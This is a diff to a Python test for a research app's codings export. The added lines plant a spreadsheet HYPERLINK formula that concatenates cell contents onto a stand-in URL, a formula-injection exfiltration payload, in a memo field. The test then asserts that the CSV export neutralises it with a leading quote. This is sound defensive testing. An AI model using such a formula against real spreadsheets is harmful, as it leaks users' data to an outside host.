@@ -137,8 +137,12 @@ def test_lead_exports_csv_and_qdpx_that_read_back(study, tmp_path):
     app, store = build_app(load_study(study, check_files=False))
     try:
         client = _lead_client(app, store)
+        formula = '=HYPERLINK("http://x.example/?"&A1,"x")'
+        first = store.codings().iloc[0]
+        store.update_coding(int(first.coding_id), 1, memo=formula)
         csv_text = client.get("/api/export/codings.csv").text
         exported = pd.read_csv(io.StringIO(csv_text))
+        assert "'" + formula in set(exported["memo"])  # neutralised for spreadsheets
         original = pd.read_csv(study / "codings.csv")
         key = ["transcript_id", "coder", "code_id", "start", "end"]
         assert sorted(map(tuple, exported[key].to_numpy().tolist())) == sorted(
@@ -153,6 +157,7 @@ def test_lead_exports_csv_and_qdpx_that_read_back(study, tmp_path):
         assert sorted(map(tuple, project.codings[key].to_numpy().tolist())) == sorted(
             map(tuple, original[key].to_numpy().tolist())
         )
+        assert formula in set(project.codings["memo"])  # REFI-QDA keeps the memo exact
     finally:
         store.close()
 
